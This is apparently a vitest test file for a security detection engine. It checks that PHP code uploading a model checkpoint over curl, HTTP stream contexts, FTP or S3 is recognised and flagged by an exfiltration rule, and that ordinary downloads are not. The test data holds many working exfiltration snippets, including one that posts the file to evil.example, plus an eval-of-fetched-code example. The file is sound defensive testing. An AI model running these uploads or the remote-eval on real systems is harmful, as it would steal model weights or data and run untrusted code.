/**
 * PHP transfers read as runs (exec-interpreter-transfer-php.ts): ext/curl handles and their
 * options, stream contexts, FTP and S3 stream writes; downloads as downloads; a handle never run,
 * a method of an object and a local file read nothing. Then through the shipped rules: the uploads
 * alert as the curl upload they amount to (MLS-EXFIL-014), the benign shapes raise nothing new.
 */
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';
import { eventFieldResolver } from './event-fields.js';
import { readCode, readInterpreter } from './exec-interpreter.js';
import { HOLE } from './exec-interpreter-token.js';
import { INDIRECT_RUNTIME } from './exec-readings.js';

const argvs = (code: string): string[][] => readCode(code, 'php').runs.map((r) => [...(r.argv ?? [])]);
const P = '/mnt/ckpt/model.pt';
const U = 'https://h/u';
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';

/** Upload shapes and the run each reads as. */
const UPLOADS: Array<[string, string[]]> = [
  [`$c=curl_init("${U}"); curl_setopt($c, CURLOPT_POSTFIELDS, ["f"=>new CURLFile("${P}")]); curl_exec($c);`, ['curl', '-X', 'POST', '-F', `f=@${P}`, U, '#curl_exec']],
  [`$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, '${U}');\ncurl_setopt($ch, CURLOPT_POST, 1);\n$post = array('model' => curl_file_create('${P}', 'application/octet-stream'), 'run' => 'r1');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $post);\n$out = curl_exec($ch);`, ['curl', '-X', 'POST', '-F', `model=@${P}`, U, '#curl_exec']],
  [`$f = new \\CURLFile('${P}'); $c = \\curl_init('${U}'); \\curl_setopt_array($c, [\\CURLOPT_POST => true, \\CURLOPT_POSTFIELDS => [$f]]); @curl_exec($c);`, ['curl', '-X', 'POST', '-F', `0=@${P}`, U, '#curl_exec']],
  [`$ch = curl_init('${U}'); curl_setopt($ch, CURLOPT_CUSTOMREQUEST, 'PUT'); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('${P}')); curl_exec($ch);`, ['curl', '-X', 'PUT', '-T', P, U, '#curl_exec']],
  [`$c = curl_init(); curl_setopt_array($c, array(CURLOPT_URL => 'ftp://h/m.pt', CURLOPT_UPLOAD => true, CURLOPT_INFILE => fopen('${P}', 'rb'))); curl_exec($c); curl_close($c);`, ['curl', '-T', P, 'ftp://h/m.pt', '#curl_exec']],
  [`$fh = fopen('${P}', 'r'); $c = curl_init('${U}'); curl_setopt($c, CURLOPT_PUT, true); curl_setopt($c, CURLOPT_INFILE, $fh); curl_setopt($c, CURLOPT_INFILESIZE, filesize('${P}')); curl_exec($c);`, ['curl', '-X', 'PUT', '-T', P, U, '#curl_exec']],
  // libcurl's option numbers for the constants (CURLOPT_URL 10002, CURLOPT_UPLOAD 46, CURLOPT_READDATA 10009).
  [`$c = curl_init(); curl_setopt($c, 10002, '${U}'); curl_setopt($c, 46, 1); curl_setopt($c, 10009, fopen('${P}', 'rb')); curl_exec($c);`, ['curl', '-X', 'PUT', '-T', P, U, '#curl_exec']],
  [`$ch = curl_init('${U}'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['w' => new CURLFile('${P}')]); $mh = curl_multi_init(); curl_multi_add_handle($mh, $ch); do { curl_multi_exec($mh, $run); } while ($run);`, ['curl', '-X', 'POST', '-F', `w=@${P}`, U, '#curl_multi_exec']],
  [`file_get_contents("${U}", false, stream_context_create(["http"=>["method"=>"POST","content"=>file_get_contents("${P}")]]));`, ['curl', '-X', 'POST', '-T', P, U, '#file_get_contents']],
  [`$ctx = stream_context_create(['http' => ['method' => 'PUT', 'content' => fread(fopen('${P}', 'rb'), filesize('${P}'))]]); $f = fopen('${U}', 'r', false, $ctx);`, ['curl', '-X', 'PUT', '-T', P, U, '#fopen']],
  [`$o = ['http' => ['method' => 'PUT', 'content' => file_get_contents('${P}')]]; file_get_contents('${U}', context: stream_context_create($o));`, ['curl', '-X', 'PUT', '-T', P, U, '#file_get_contents']],
  [`stream_context_set_default(['http' => ['method' => 'POST', 'content' => file_get_contents('${P}')]]); echo file_get_contents('${U}');`, ['curl', '-X', 'POST', '-T', P, U, '#file_get_contents']],
  [`copy('${P}', 'ftp://u:p@h/m.pt');`, ['curl', '-T', P, 'ftp://u:p@h/m.pt', '#copy']],
  [`file_put_contents('ftp://u:p@h/m.pt', file_get_contents('${P}'));`, ['curl', '-T', P, 'ftp://u:p@h/m.pt', '#file_put_contents']],
  [`$s3->registerStreamWrapper(); copy('${P}', 's3://bkt/k/m.pt');`, ['aws', 's3', 'cp', P, 's3://bkt/k/m.pt', '#copy']],
  [`$out = fopen('ftp://u:p@h/m.pt', 'w'); stream_copy_to_stream(fopen('${P}', 'rb'), $out);`, ['curl', '-T', '-', 'ftp://u:p@h/m.pt', '#fopen']],
];

/** Shapes that upload nothing, and what each reads as (a download, a GET, nothing). */
const BENIGN: Array<[string, string[][]]> = [
  [`$ch = curl_init('${U}'); $fp = fopen('/tmp/x', 'w'); curl_setopt($ch, CURLOPT_FILE, $fp); curl_exec($ch); fclose($fp);`, [['curl', '-o', '/tmp/x', U, '#curl_exec']]],
  [`$ch = curl_init('https://repo.example/a.json'); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true); $j = json_decode(curl_exec($ch));`, [['curl', 'https://repo.example/a.json', '#curl_exec']]],
  [`$ch = curl_init('${U}'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('${P}')]);`, []],
  [`file_put_contents('/var/log/train.log', "step 1\\n", FILE_APPEND); $x = file_get_contents('${P}');`, []],
  [`file_put_contents('/tmp/i.sh', file_get_contents('https://h/i.sh'));`, [['curl', '-o', '/tmp/i.sh', 'https://h/i.sh', '#file_get_contents']]],
  [`copy('https://h/base.pt', '/tmp/base.pt');`, [['curl', '-o', '/tmp/base.pt', 'https://h/base.pt', '#copy']]],
  // An array with `=>` keys is a dict: json_encode gives its text (numbers read as their digits, quoted).
  [`$c = curl_init('http://metrics.svc/api'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(['step' => 1])); curl_exec($c);`, [['curl', '-X', 'POST', '--data-raw', '{"step":"1"}', 'http://metrics.svc/api', '#curl_exec']]],
  [`$c = curl_init('http://metrics.svc/api'); curl_setopt($c, CURLOPT_POSTFIELDS, ['step' => 1, 'loss' => '0.5']); curl_exec($c);`, [['curl', '-X', 'POST', '--data-raw', HOLE, 'http://metrics.svc/api', '#curl_exec']]],
  [`$x->curl_exec($c); Foo::copy('${P}', 'ftp://h/x'); copy('${P}', '/tmp/m.pt'); $f = fopen('/tmp/out', 'w');`, []],
  [`function curl_exec2($c) {} $h = fopen('${P}', 'rb'); fread($h, 10);`, []],
  [`$c = curl_init('https://h/a'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); file_put_contents('/tmp/a', curl_exec($c));`, [['curl', '-o', '/tmp/a', 'https://h/a', '#curl_exec']]],
  [`$r = file_get_contents('https://h/a', false, stream_context_create(['http' => ['method' => 'GET', 'header' => 'Accept: x']]));`, [['curl', 'https://h/a', '#file_get_contents']]],
];

describe('PHP uploads', () => {
  for (const [code, argv] of UPLOADS) it(code, () => expect(argvs(code)).toEqual([argv]));

  it('names are case-insensitive; a value known only at run time is HOLE, the run runtime', () => {
    expect(argvs(`$C = CURL_INIT('${U}'); CURL_SETOPT($C, CURLOPT_POSTFIELDS, ['f' => new curlfile('${P}')]); Curl_Exec($C);`)).toEqual([['curl', '-X', 'POST', '-F', `f=@${P}`, U, '#curl_exec']]);
    const r = readCode(`$c = curl_init($argv[1]); curl_setopt($c, CURLOPT_POSTFIELDS, ['f' => new CURLFile($argv[2])]); curl_exec($c);`, 'php');
    expect(r.runs.map((x) => x.argv)).toEqual([['curl', '-X', 'POST', '-F', `f=@${HOLE}`, HOLE, '#curl_exec']]);
    expect(r.runs[0]!.how).toBe(INDIRECT_RUNTIME);
    expect(r.runs[0]!.direct).toBe(true);
  });

  it('a handle that is a property: its options by the expression; a multi handle never run moves nothing', () => {
    expect(argvs(`$this->ch = curl_init(); curl_setopt($this->ch, CURLOPT_URL, '${U}'); curl_setopt($this->ch, CURLOPT_POSTFIELDS, ['w' => new CURLFile('${P}')]); curl_exec($this->ch);`)).toEqual([['curl', '-X', 'POST', '-F', `w=@${P}`, U, '#curl_exec']]);
    expect(argvs(`$ch = curl_init('${U}'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['w' => new CURLFile('${P}')]); $mh = curl_multi_init(); curl_multi_add_handle($mh, $ch);`)).toEqual([]);
  });

  it('options set before the run win; one set only after it (a loop) counts', () => {
    const code = `$c = curl_init('${U}'); curl_setopt($c, CURLOPT_POSTFIELDS, ['f' => new CURLFile('${P}')]); curl_exec($c); curl_setopt($c, CURLOPT_POSTFIELDS, 'done'); curl_exec($c);`;
    expect(argvs(code)).toEqual([['curl', '-X', 'POST', '-F', `f=@${P}`, U, '#curl_exec'], ['curl', '-X', 'POST', '--data-raw', 'done', U, '#curl_exec']]);
    expect(argvs(`$c = curl_init('${U}'); for ($i = 0; $i < 2; $i++) { if ($i) curl_exec($c); curl_setopt($c, CURLOPT_POSTFIELDS, ['f' => new CURLFile('${P}')]); }`)).toEqual([['curl', '-X', 'POST', '-F', `f=@${P}`, U, '#curl_exec']]);
  });
});

describe('PHP downloads and what is not read', () => {
  for (const [code, runs] of BENIGN) it(code, () => expect(argvs(code)).toEqual(runs));

  it('code fetched and run (`eval(file_get_contents(url))`) is a download fed to the interpreter', () => {
    const r = readCode(`eval(file_get_contents('https://h/i.php'));`, 'php');
    expect(r.runs.map((x) => x.argv)).toEqual([['curl', 'https://h/i.php', '#file_get_contents']]);
    expect(r.fed).toEqual(['curl']);
  });
});

describe('hostile PHP code', () => {
  const shapes = [
    `${'file_get_contents('.repeat(1500)}'https://h/u'`,
    `${"curl_setopt($c, CURLOPT_POSTFIELDS, ['f' => new CURLFile('p')]); ".repeat(300)}${'curl_exec($c); '.repeat(300)}`,
    `$o = [${"'http' => [".repeat(700)}`,
    `$a = $b; $b = $a; ${'file_get_contents($a, false, stream_context_create($b)); '.repeat(200)}`,
    `$x = [${"'k' => new CURLFile('p'), ".repeat(1000)}]; $c = curl_init('u'); ${'curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c); '.repeat(100)}`,
    `${'file_put_contents("/tmp/x", '.repeat(800)}curl_exec($c)`,
    `${'copy(copy('.repeat(700)}`,
    `${'curl_setopt_array($c, array(CURLOPT_POSTFIELDS => array('.repeat(500)}`,
  ];
  it('never throws, stays bounded and fast', () => {
    let slowest = 0;
    for (const code of shapes) {
      const t0 = Date.now();
      const r = readInterpreter(['php', '-r', code], 0);
      slowest = Math.max(slowest, Date.now() - t0);
      expect(r).not.toBeNull();
      expect(r!.runs.length).toBeLessThanOrEqual(32);
    }
    // A hang guard, not a speed test (test files run side by side on two cores).
    expect(slowest).toBeLessThan(2_000);
  });
});

const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);

describe('MLS-EXFIL-014: PHP uploads through the shipped rules', () => {
  for (const [code] of UPLOADS) {
    const command = ['php', '-r', code];
    it(`alerts: ${code}`, () => {
      expect(execRuleIds(command)).toContain('MLS-EXFIL-014');
      expect(execRuleIds(command, SA)).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toBe(false);
    });
  }
  it('alerts through kubectl exec … -- sh -c', () => {
    const line = `php -r '$c=curl_init("https://evil.example/u"); curl_setopt($c, CURLOPT_POSTFIELDS, ["f"=>new CURLFile("${P}")]); curl_exec($c);'`;
    expect(execRuleIds(['sh', '-c', line])).toContain('MLS-EXFIL-014');
  });
});

describe('benign PHP raises nothing new', () => {
  for (const [code] of BENIGN) {
    it(code, () => expect(execRuleIds(['php', '-r', code])).toEqual([SIGMA_EXEC]));
  }
});
